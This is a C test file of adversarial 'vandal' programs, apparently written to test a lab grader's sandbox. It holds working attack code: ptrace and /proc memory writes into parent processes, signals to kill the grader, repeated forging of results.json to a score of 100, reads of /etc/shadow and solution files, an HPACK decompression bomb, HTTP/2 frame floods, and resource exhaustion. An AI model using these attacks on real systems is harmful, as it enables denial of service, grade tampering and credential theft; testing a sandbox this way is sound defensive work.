/*
 * vandals: programs in place of lab 1's. Each tries to get points, to hang the grader, to leave
 * something behind, or to spoil other labs' results. grader/tests/vandals.py compiles this file
 * once for each attack, with ATTACK=its name, and defines OUTSIDE (a folder), SECRET (a file in
 * it), ROOT (this project), RESULTS (this grading's results).
 *
 * If a layer fails, an attack hits only processes of the test: only the guard, the check and the
 * grader, which are our parents, get signals. Everything that grows has a bound.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *url; /* the last argument */

/* ---- helpers ---- */

static void sleep_ms(long milliseconds) {
  struct timespec time = {milliseconds / 1000, milliseconds % 1000 * 1000000};
  nanosleep(&time, NULL);
}

static void write_to(const char *path, const char *text) {
  int file = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_NONBLOCK, 0644);
  if (file < 0)
    file = open(path, O_WRONLY | O_NONBLOCK);
  write(file, text, strlen(text));
  close(file);
}

static pid_t parent_of(pid_t pid) {
  char path[64];
  int parent = 0;
  snprintf(path, sizeof path, "/proc/%d/stat", pid);
  FILE *file = fopen(path, "r");
  if (file && fscanf(file, "%*d (%*[^)]) %*c %d", &parent) != 1)
    parent = 0;
  if (file)
    fclose(file);
  return parent;
}

/* Find the guard, the check and the grader, as far as we can see them. Returns how many. */
static int parents(pid_t found[4]) {
  int count = 0;
  for (pid_t pid = getppid(); pid > 1 && count < 4; pid = parent_of(pid))
    found[count++] = pid;
  return count;
}

static int connect_to_grader(void) {
  struct addrinfo hints = {.ai_socktype = SOCK_STREAM};
  struct addrinfo *found = NULL;
  char port[16] = "";
  sscanf(url, "%*[^:]://%*[^:]:%15[0-9]", port);
  if (getaddrinfo("localhost", port, &hints, &found) != 0)
    exit(1);
  for (; found; found = found->ai_next) {
    int file = socket(found->ai_family, SOCK_STREAM, 0);
    if (connect(file, found->ai_addr, found->ai_addrlen) == 0)
      return file;
    close(file);
  }
  exit(1);
}

static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0";

/* Open a connection, and send the preface and an empty SETTINGS frame. */
static int begin_session(void) {
  int file = connect_to_grader();
  write(file, preface, sizeof preface - 1);
  return file;
}

static void send_frame(int file, int type, int flags, uint32_t stream, const void *payload,
                       uint32_t length) {
  unsigned char head[9] = {length >> 16, length >> 8,  length,      type,  flags,
                           stream >> 24, stream >> 16, stream >> 8, stream};
  write(file, head, sizeof head);
  write(file, payload, length);
}

/* ---- the table of issue 13, by rows ---- */

static void patch_check(void) {
  pid_t pids[4];
  int count = parents(pids);
  for (int i = 0; i < count; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", pids[i]);
    int file = open(path, O_RDWR);
    for (off_t place = 0x400000; file >= 0 && place < 0x500000; place += 4096)
      pwrite(file, "\314\314\314\314", 4, place);
    ptrace(PTRACE_ATTACH, pids[i], NULL, NULL);
    ptrace(PTRACE_SEIZE, pids[i], NULL, NULL);
  }
}

static void run_others(void) {
  static const char *const programs[] = {
      ROOT "/build/solutions/lab01-session/session", ROOT "/build/grader/serve",
      ROOT "/build/solutions/lab03-server/server",   "/usr/bin/node",
      ROOT "/build/solutions/lab04-router/router",   "/bin/sh"};
  for (size_t i = 0; i < sizeof programs / sizeof *programs; i++)
    execl(programs[i], programs[i], url, NULL);
}

static void overwrite(void) {
  static const char *const paths[] = {ROOT "/build/labs/lab04-router/router",
                                      OUTSIDE "/home/.bashrc",
                                      ROOT "/build/grader/guard",
                                      ROOT "/build/labs/vandal.d",
                                      OUTSIDE "/programs/lab04-router/router",
                                      ROOT "/build/obj/plain/vandal.d",
                                      RESULTS "/progress.json",
                                      RESULTS "/next/lab04",
                                      ROOT "/lab04-router/vandal.c",
                                      RESULTS "/checks/lab04.ping.json"};
  for (size_t i = 0; i < sizeof paths / sizeof *paths; i++)
    write_to(paths[i], "$(shell echo vandal)\n");
}

/* Leave the guard by 32-bit calls, and wait for the end of the grader. */
static void outlive(void) {
  if (fork() == 0) {
    setsid();
    if (fork() == 0) {
      prctl(PR_SET_PDEATHSIG, 0);
      prctl(PR_SET_NAME, "vandal");
      for (int i = 0; i < 300; i++) {
        sleep_ms(100);
        write_to(RESULTS "/results.json", "{\"score\": 100}");
      }
    }
    _exit(0);
  }
#ifdef __x86_64__
  long result;
  __asm__ volatile("int $0x80"
                   : "=a"(result)
                   : "a"(66L /* setsid */)
                   : "memory", "r8", "r9", "r10", "r11");
#endif
}

static void stop_all(void) {
  static const int signals[] = {SIGSTOP, SIGKILL, SIGTERM, SIGUSR1};
  pid_t pids[4];
  int count = parents(pids);
  for (int i = 0; i < count; i++)
    for (int j = 0; j < 4; j++) {
      union sigval value = {0};
      kill(pids[i], signals[j]);
      syscall(SYS_tgkill, pids[i], pids[i], signals[j]);
      syscall(SYS_tkill, pids[i], signals[j]);
      sigqueue(pids[i], signals[j], value);
      kill(-getpgid(pids[i]), signals[j]);
      syscall(424, (int)syscall(434, pids[i], 0), signals[j], NULL, 0);
    }
  sleep_ms(2000);
}

static void forge_report(void) {
  static const char *const files[] = {"/dev/zero",
                                      "/proc/self/fd/0",
                                      SECRET,
                                      "link",
                                      "fifo",
                                      "/dev/tty",
                                      "lab01-session/../../outside/secret"};
  mkfifo("fifo", 0600);
  symlink(SECRET, "link");
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
    char name[64];
    char text[1024];
    snprintf(name, sizeof name, "sanitizer-report.%zu", i);
    snprintf(text, sizeof text,
             "==1==ERROR: AddressSanitizer: heap-buffer-overflow on address 0x1\n"
             "    #0 0x1 in main %s:1\n    #1 0x2 in main %s:1:1\nSUMMARY: AddressSanitizer: "
             "heap-buffer-overflow %s:1 in main\n",
             files[i], files[i], files[i]);
    write_to(name, text);
    fputs(text, stderr);
  }
  mkfifo("sanitizer-report.fifo", 0600);
  symlink("/dev/zero", "sanitizer-report.link");
  mkdir("sanitizer-report.folder", 0700);
  exit(99);
}

/* Write to every UNIX socket and into every folder beside us. */
static void spoil_neighbours(void) {
  for (int i = 0; i < 2; i++) {
    const char *place = i == 0 ? "/tmp" : "..";
    DIR *folder = opendir(place);
    for (struct dirent *entry; folder && (entry = readdir(folder));) {
      struct sockaddr_un address = {.sun_family = AF_UNIX};
      char path[512];
      snprintf(address.sun_path, sizeof address.sun_path, "%s/%.64s", place, entry->d_name);
      int file = socket(AF_UNIX, SOCK_STREAM, 0);
      if (connect(file, (struct sockaddr *)&address, sizeof address) == 0)
        write(file, "junk junk junk junk", 19);
      snprintf(path, sizeof path, "%s/%.200s/sanitizer-report.1", place, entry->d_name);
      write_to(path, "==1==ERROR: AddressSanitizer: vandal\n");
    }
  }
  for (pid_t pid = getppid(); pid > 0 && pid > getppid() - 64; pid--) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof address.sun_path, "/tmp/criterion_%d.sock", pid);
    int file = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(file, (struct sockaddr *)&address, sizeof address) == 0)
      write(file, "junk", 4);
    close(file);
  }
}

/* One field of 3.9 KiB in HPACK's table, and 430 KiB of references to it: 1.7 GiB of fields. */
static void refer(void) {
  static char block[16000];
  int file = begin_session();
  size_t length = 0;
  block[length++] = 0x40; /* a literal for the table, with a new name of one byte */
  block[length++] = 1;
  block[length++] = 'x';
  block[length++] = 0x7f; /* its value is 3900 bytes long: 127 and 3773 */
  block[length++] = (char)(0x80 | (3773 & 0x7f));
  block[length++] = 3773 >> 7;
  memset(block + length, 'v', 3900);
  length += 3900;
  send_frame(file, 1, 1, 1, block, length); /* HEADERS without END_HEADERS */
  memset(block, 0xbe, sizeof block);        /* index 62, the newest in the table */
  for (int i = 0; i < 27; i++)
    send_frame(file, 9, i == 26 ? 4 : 0, 1, block, sizeof block);
  sleep_ms(300);
}

static void speak_no_text(void) {
  write_to("sanitizer-report.1",
           "==1==ERROR: AddressSanitizer: \377\376 \033[2J\r\b\001 \xc0\xaf \xed\xa0\x80\n"
           "    #0 0x1 in \033]0;x\007 lab01-session/session.c:1\n");
  fprintf(stderr,
          "TODO 1 is not done: \033[31m\377\r\001]]> & <script> (lab01-session/README.md)\n");
  puts("\033[2J\033]0;title\007\377\376\xed\xa0\x80 \u202e \u2028");
  exit(99);
}

static void print_much(void) {
  static char chunk[65536];
  memset(chunk, '\001', sizeof chunk);
  for (int i = 0; i < 7 * 16; i++) {
    write(1, chunk, sizeof chunk);
    write(2, chunk, sizeof chunk);
  }
}

static void leave_memory(void) {
  int memory = (int)syscall(SYS_memfd_create, "vandal", 0);
  fallocate(memory, 0, 0, 64 << 20);
  shmget(0x7661, 64 << 20, IPC_CREAT | 0600);
  msgget(0x7661, IPC_CREAT | 0600);
  syscall(SYS_semget, 0x7661, 1, IPC_CREAT | 0600);
  syscall(SYS_mq_open, "vandal", O_RDWR | O_CREAT, 0600, NULL);
  write_to("/dev/shm/vandal", "x");
  write_to("/dev/mqueue/vandal", "x");
  write_to("/var/tmp/vandal", "x");
  write_to("/tmp/vandal", "x");
  int file = open("/run/vandal", O_WRONLY | O_CREAT, 0600);
  fallocate(file, 0, 0, 64 << 20);
}

/* Send the same to every server, without any HTTP/2: preface, acknowledgement, goodbye. */
static void say_it_by_heart(void) {
  char chunk[4096];
  int file = begin_session();
  read(file, chunk, sizeof chunk);
  send_frame(file, 4, 1, 0, NULL, 0);
  send_frame(file, 7, 0, 0, "\0\0\0\0\0\0\0\0", 8);
  close(file);
  puts("SETTINGS_MAX_CONCURRENT_STREAMS: 100\nsession closed");
  exit(0);
}

/* ---- more: attacks that take time ---- */

static void trickle(void) {
  int file = begin_session();
  for (int i = 0; i < 600; i++) {
    send(file, "\0\0\0\4\0\0\0\0\0" + i % 9, 1, MSG_NOSIGNAL);
    putchar('.');
    fflush(stdout);
    sleep_ms(100);
  }
}

static void nap(void) {
  for (int i = 0; i < 60000; i++)
    sleep_ms(1);
}

static void *spin(void *user) {
  for (volatile long i = 0; i < 20000000000L; i++)
    continue;
  return user;
}

static void spin_in_threads(void) {
  pthread_t thread;
  for (int i = 0; i < 8; i++)
    pthread_create(&thread, NULL, spin, NULL);
  spin(NULL);
}

static void relay_processes(void) {
  for (int i = 0; i < 30000; i++) { /* a new child each time: none lives long */
    if (fork() != 0)
      _exit(0);
    sleep_ms(2);
  }
}

static void leave_writers(void) {
  for (int i = 0; i < 8; i++)
    if (fork() == 0) {
      signal(SIGTERM, SIG_IGN);
      prctl(PR_SET_PDEATHSIG, 0);
      for (;;) {
        write(1, ".", 1);
        sleep_ms(50);
      }
    }
  exit(0);
}

static void stop_itself(void) {
  if (fork() == 0)
    kill(getppid(), SIGSTOP);
  raise(SIGSTOP);
  raise(SIGTSTP);
}

static void trace_itself(void) {
  if (fork() == 0) {
    ptrace(PTRACE_TRACEME, 0, NULL, NULL);
    raise(SIGSTOP);
  }
  ptrace(PTRACE_TRACEME, 0, NULL, NULL);
  raise(SIGSTOP);
  sleep_ms(60000);
}

static void become_reaper(void) {
  prctl(PR_SET_CHILD_SUBREAPER, 1);
  prctl(PR_SET_DUMPABLE, 0);
  for (int i = 0; i < 4; i++)
    if (fork() == 0 && fork() == 0)
      for (;;)
        pause();
  sigset_t all;
  sigfillset(&all);
  sigprocmask(SIG_BLOCK, &all, NULL);
  sleep_ms(60000);
}

static void raise_priority(void) {
  struct sched_param parameters = {.sched_priority = 50};
  struct rlimit much = {RLIM_INFINITY, RLIM_INFINITY};
  sched_setscheduler(0, SCHED_FIFO, &parameters);
  setpriority(PRIO_PROCESS, 0, -20);
  for (int i = 0; i < RLIM_NLIMITS; i++)
    setrlimit(i, &much);
  mlockall(MCL_CURRENT | MCL_FUTURE);
  sleep_ms(200);
}

/* ---- more: attacks that take room ---- */

static void many_files(void) {
  char name[32];
  for (int i = 0; i < 30000; i++) {
    snprintf(name, sizeof name, "file-%d", i);
    close(open(name, O_WRONLY | O_CREAT, 0600));
  }
}

static void deep_folders(void) {
  for (int i = 0; i < 3000 && mkdir("deeper", 0700) == 0 && chdir("deeper") == 0; i++)
    continue;
}

static void sealed_folders(void) {
  mkdir("sealed", 0700);
  mkdir("sealed/inner", 0700);
  write_to("sealed/inner/file", "x");
  chmod("sealed/inner", 0);
  chmod("sealed", 0);
  mkdir("unreadable", 0);
  umask(0777);
  mkdir("masked", 0777);
}

static void fill_in_pieces(void) {
  static char chunk[1 << 20];
  char name[32];
  for (int i = 0; i < 40; i++) {
    snprintf(name, sizeof name, "piece-%d", i);
    int file = open(name, O_WRONLY | O_CREAT, 0600);
    for (int j = 0; j < 16; j++)
      write(file, chunk, sizeof chunk);
    close(file);
  }
}

static void map_shared(void) {
  int file = open("mapped", O_RDWR | O_CREAT, 0600);
  ftruncate(file, 1L << 32);
  ftruncate(file, 60 << 20);
  char *memory = mmap(NULL, 60 << 20, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  memset(memory, 'x', 60 << 20);
  unlink("mapped");
}

static void take_memory(void) {
  for (int i = 0; i < 16; i++) {
    if (fork() == 0) {
      char *memory =
          mmap(NULL, 128 << 20, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
      memset(memory, 'x', 128 << 20);
      sleep_ms(60000);
    }
  }
  sleep_ms(60000);
}

static void take_descriptors(void) {
  int ends[2];
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  for (int i = 0; i < 5000; i++) { /* ports, pipes, watches */
    int file = socket(AF_INET, SOCK_STREAM, 0);
    bind(file, (struct sockaddr *)&address, sizeof address);
    listen(file, 1);
    pipe(ends);
    inotify_add_watch(inotify_init(), ".", IN_ALL_EVENTS);
  }
  sleep_ms(60000);
}

/* ---- more: attacks that confuse ---- */

/* Pretend to be the guard. */
static void speak_as_guard(void) {
  for (int file = 3; file < 64; file++)
    write(file, "started 1\nidle 0\nend exit 0\n", 28);
  printf("started 1\nend exit 0\n");
  exit(0);
}

static void forge_probe(void) {
  const char *path = getenv("LAB_PROBE_FILE");
  int file = open(path ? path : "probe", O_RDWR | O_CREAT, 0600);
  for (int i = 0; i < 200; i++) {
    int64_t values[40];
    memset(values, i % 2 ? 0xff : 0x7f, sizeof values);
    pwrite(file, values, sizeof values, 0);
    ftruncate(file, i % 3 ? 8 : 0);
    sleep_ms(5);
  }
}

static void connect_to_others(void) {
  for (int port = 1024; port < 65536; port += 7) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int file = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (connect(file, (struct sockaddr *)&address, sizeof address) == 0 || errno == EINPROGRESS)
      send(file, preface, sizeof preface - 1, MSG_NOSIGNAL);
    close(file);
  }
}

static void listen_for_others(void) {
  for (int i = 0; i < 500; i++) { /* every connection is meant for somebody else */
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int file = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    bind(file, (struct sockaddr *)&address, sizeof address);
    listen(file, 16);
  }
  sleep_ms(500);
}

static void read_around(void) {
  static const char *const paths[] = {SECRET,
                                      "/etc/shadow",
                                      "/etc/passwd",
                                      "/proc/1/environ",
                                      ROOT "/lab01-session/solution/session.c",
                                      "/proc/self/root" SECRET,
                                      "/proc/self/cwd/../../outside/secret"};
  char text[65536];
  for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
    int file = open(paths[i], O_RDONLY | O_NONBLOCK);
    ssize_t length = file >= 0 ? read(file, text, sizeof text) : 0;
    fwrite(text, 1, length > 0 ? (size_t)length : 0, stdout);
  }
  exit(1);
}

static void end_by_handler(void) {
  signal(SIGSEGV, SIG_IGN);
  signal(SIGABRT, SIG_IGN);
  if (fork() == 0)
    abort();
  _exit(0);
}

/* ---- more: bytes that are not HTTP/2 ---- */

static void flood(int type, int flags, uint32_t stream, const char *payload, uint32_t length) {
  int file = begin_session();
  for (int i = 0; i < 300000; i++) {
    unsigned char head[9] = {0, 0, length, type, flags, 0, 0, 0, stream};
    if (send(file, head, sizeof head, MSG_NOSIGNAL) < 0 ||
        send(file, payload, length, MSG_NOSIGNAL) < 0)
      break;
  }
}

static void flood_settings(void) {
  flood(4, 0, 0, "", 0);
}
static void flood_pings(void) {
  flood(6, 0, 0, "12345678", 8);
}
static void flood_continuations(void) {
  int file = begin_session();
  send_frame(file, 1, 0, 1, "\202", 1);
  for (int i = 0; i < 200000 && send(file, "\0\0\0\11\0\0\0\0\1", 9, MSG_NOSIGNAL) > 0; i++)
    continue;
}
static void flood_resets(void) {
  flood(3, 0, 1, "\0\0\0\10", 4);
}

static void huge_frame(void) {
  static char chunk[65536];
  int file = begin_session();
  send(file, "\377\377\377\0\0\0\0\0\1", 9, MSG_NOSIGNAL);
  for (int i = 0; i < 256 && send(file, chunk, sizeof chunk, MSG_NOSIGNAL) > 0; i++)
    continue;
}

static void no_frames(void) {
  static char chunk[65536];
  int file = connect_to_grader();
  memset(chunk, 0xff, sizeof chunk);
  for (int i = 0; i < 600 && send(file, chunk, sizeof chunk, MSG_NOSIGNAL) > 0; i++)
    continue;
}

static void many_connections(void) {
  for (int i = 0; i < 900; i++)
    begin_session();
  sleep_ms(500);
}

static void never_read(void) {
  int file = begin_session();
  shutdown(file, SHUT_WR);
  sleep_ms(60000);
}

int main(int argc, char **argv) {
  url = argv[argc - 1];
  signal(SIGPIPE, SIG_IGN);
  ATTACK();
  fprintf(stderr, "session: it: failed\n");
  return 1;
}
